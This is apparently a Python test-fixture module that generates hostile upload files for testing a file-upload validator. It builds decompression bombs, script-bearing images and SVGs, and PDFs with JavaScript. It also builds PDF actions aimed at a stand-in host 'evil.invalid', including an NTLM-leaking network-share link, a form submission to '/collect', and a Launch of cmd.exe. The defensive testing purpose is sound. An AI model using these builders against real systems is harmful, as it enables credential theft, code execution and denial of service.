"""Files for the upload tests, each made here from scratch: no binary fixtures are checked in.

Some are ordinary (a photo, a scan), most are hostile: each builder says what it imitates.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

SCRIPT = b"<script>alert('owned')</script>"
PDF_PAYLOAD = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n"


def jpeg(
    size: tuple[int, int] = (64, 48), color: tuple[int, int, int] = (30, 90, 160), **save
) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG", quality=85, **save)
    return out.getvalue()


def png(size: tuple[int, int] = (64, 48), mode: str = "RGB", **save) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "teal" if mode == "RGB" else 128).save(out, "PNG", **save)
    return out.getvalue()


def jpeg_with_gps_exif() -> bytes:
    """A phone photo: EXIF with the camera, the place it was taken, and 'rotate 90°' (6)."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SpyPhone"
    exif[ExifTags.Base.Model] = "Serial 12345"
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (55.0, 45.0, 21.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (37.0, 37.0, 4.0),
    }
    return jpeg(size=(60, 40), exif=exif)


def jpeg_with_comment_script() -> bytes:
    """A JPEG whose comment segment carries HTML with a script."""
    return jpeg(comment=SCRIPT)


def png_with_text_chunks() -> bytes:
    """A PNG with a tEXt chunk holding a script and an iTXt chunk holding XMP."""
    info = PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret location</x:xmpmeta>")
    return png(pnginfo=info)


def jpeg_pdf_polyglot() -> bytes:
    """A valid JPEG start with a PDF (with JavaScript) and HTML appended after its end."""
    return jpeg() + PDF_PAYLOAD + SCRIPT


def truncated_jpeg() -> bytes:
    """A real photo cut in half, as an interrupted transfer leaves it."""
    noisy = Image.effect_noise((400, 300), 80).convert("RGB")
    out = io.BytesIO()
    noisy.save(out, "JPEG", quality=90)
    data = out.getvalue()
    return data[: len(data) // 2]


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_by_hand(width: int, height: int, idat: bytes) -> bytes:
    """A greyscale PNG whose header says ``width`` x ``height``, with the given IDAT data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def pixel_flood_png() -> bytes:
    """A PNG whose header claims 50,000 x 50,000 pixels (2.5 gigapixels) in under 100 bytes."""
    return png_by_hand(50_000, 50_000, zlib.compress(b"\0" * 100))


def zeros_compressed(megabytes: int) -> bytes:
    compressor = zlib.compressobj(9)
    block = b"\0" * 1_000_000
    return b"".join(compressor.compress(block) for _ in range(megabytes)) + compressor.flush()


def zlib_bomb_png() -> bytes:
    """10,000 x 5,000 pixels: about 50 KB on disk that inflate to 50 MB of pixels."""
    return png_by_hand(10_000, 5_000, zeros_compressed(50))


def small_png_with_oversized_idat() -> bytes:
    """A 100 x 100 header followed by 50 MB of compressed zeros: decoding must stop at the image."""
    return png_by_hand(100, 100, zeros_compressed(50))


def png_with_text_bomb() -> bytes:
    """A tiny PNG with a compressed text chunk (zTXt) that inflates to 50 MB."""
    base = png(size=(10, 10), mode="L")
    bomb = _png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 50_000_000, 9))
    return base[:33] + bomb + base[33:]  # after the 8-byte signature and 25-byte IHDR chunk


def docx_zip_bomb() -> bytes:
    """A DOCX-like ZIP whose document inflates to 50 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", b"\0" * 50_000_000)
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue()


def html_page() -> bytes:
    return b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _write(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return _write(writer)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="open sesame", owner_password="owner")
    return _write(writer)


def encrypted_pdf_without_user_password() -> bytes:
    """Opens without a password in a viewer, but is still encrypted (with an owner password)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="", owner_password="owner")
    return _write(writer)


def _javascript_action(code: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def pdf_with_document_javascript() -> bytes:
    """JavaScript in the catalog's /Names /JavaScript tree (what writer.add_js made)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = writer._add_object(_javascript_action("app.alert('owned')"))
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("js"), action])})
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(names)}
    )
    return _write(writer)


def pdf_with_open_action_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(
        _javascript_action("app.launchURL('https://evil.invalid')")
    )
    return _write(writer)


def pdf_with_javascript_in_a_link() -> bytes:
    """A script hidden in a link annotation on the page, not in the catalog."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): _javascript_action("this.exportDataObject({})"),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    return _write(writer)


def truncated_pdf() -> bytes:
    data = pdf(pages=3)
    return data[: len(data) // 2]


def pdf_header_then_garbage() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8


# PDFs with actions: what a reader does when the PDF opens, a page shows, or a link is clicked


def pdf_action(kind: str, **entries: PdfObject) -> DictionaryObject:
    """An action dictionary of kind ``kind`` (``"/URI"``, ``"/GoTo"``...) with its entries."""
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
    )
    for name, value in entries.items():
        action[NameObject(f"/{name}")] = value
    return action


def _first_page_fit(writer: PdfWriter) -> ArrayObject:
    return ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])


def _url_file(url: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/FS"): NameObject("/URL"),
            NameObject("/F"): TextStringObject(url),
        }
    )


# One action of each kind that reaches outside the document, as an attacker would write it.
EXTERNAL_ACTIONS: dict[str, Callable[[], DictionaryObject]] = {
    # A page of a file on a network share: opening it sends the official's Windows
    # credentials (NTLM) to the share's server.
    "GoToR": lambda: pdf_action(
        "/GoToR",
        F=TextStringObject("\\\\files.evil.invalid\\share\\report.pdf"),
        D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
    ),
    "URI": lambda: pdf_action("/URI", URI=TextStringObject("https://evil.invalid/seen?case=1")),
    "Launch": lambda: pdf_action(
        "/Launch",
        F=TextStringObject("C:\\Windows\\System32\\cmd.exe"),
        Win=DictionaryObject(
            {
                NameObject("/F"): TextStringObject("cmd.exe"),
                NameObject("/P"): TextStringObject("/c calc"),
            }
        ),
    ),
    # A media player fed from a web address.
    "Rendition": lambda: pdf_action(
        "/Rendition",
        OP=NumberObject(0),
        R=DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Rendition"),
                NameObject("/S"): NameObject("/MR"),
                NameObject("/C"): DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/MediaClip"),
                        NameObject("/S"): NameObject("/MCD"),
                        NameObject("/D"): _url_file("https://evil.invalid/video.mp4"),
                    }
                ),
            }
        ),
    ),
    "SubmitForm": lambda: pdf_action(
        "/SubmitForm", F=_url_file("https://evil.invalid/collect"), Flags=NumberObject(4)
    ),
    "ImportData": lambda: pdf_action(
        "/ImportData", F=TextStringObject("\\\\files.evil.invalid\\share\\answers.fdf")
    ),
    # Not named in any list: only the few actions that stay inside the document pass.
    "Sound": lambda: pdf_action("/Sound", Sound=NumberObject(0)),
}

# Where a PDF reader finds an action to take.
ACTION_PLACES = (
    "catalog_open_action",
    "catalog_trigger",
    "page_trigger",
    "link",
    "outline_item",
    "after_an_internal_link",
)


def pdf_with_action(
    action: DictionaryObject | Callable[[PdfWriter], DictionaryObject], place: str
) -> bytes:
    """A two-page PDF with ``action`` at ``place`` (one of ``ACTION_PLACES``).

    ``action`` may be a function of the writer, for actions that point at a page of it.
    """
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    writer.add_blank_page(width=595, height=842)
    made = action(writer) if callable(action) else action
    reference = writer._add_object(made)
    if place == "catalog_open_action":
        writer.root_object[NameObject("/OpenAction")] = reference
    elif place == "catalog_trigger":  # before the document closes
        writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): reference})
    elif place == "page_trigger":  # when the page opens
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): reference})
    elif place in {"link", "after_an_internal_link"}:
        if place == "after_an_internal_link":
            first = pdf_action("/GoTo", D=_first_page_fit(writer))
            first[NameObject("/Next")] = ArrayObject([reference])
            reference = writer._add_object(first)
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(
                    [NumberObject(50), NumberObject(50), NumberObject(200), NumberObject(80)]
                ),
                NameObject("/A"): reference,
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    elif place == "outline_item":
        outline_root = DictionaryObject({NameObject("/Type"): NameObject("/Outlines")})
        outlines = writer._add_object(outline_root)
        item = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/Title"): TextStringObject("Passport"),
                    NameObject("/Parent"): outlines,
                    NameObject("/A"): reference,
                }
            )
        )
        outline_root[NameObject("/First")] = item
        outline_root[NameObject("/Last")] = item
        outline_root[NameObject("/Count")] = NumberObject(1)
        writer.root_object[NameObject("/Outlines")] = outlines
    else:
        raise ValueError(place)
    return _write(writer)


def internal_link(writer: PdfWriter) -> DictionaryObject:
    """A link to the second page of the same document, with the page and the zoom."""
    return pdf_action(
        "/GoTo", D=ArrayObject([writer.pages[1].indirect_reference, NameObject("/Fit")])
    )


def named_next_page(writer: PdfWriter) -> DictionaryObject:
    return pdf_action("/Named", N=NameObject("/NextPage"))
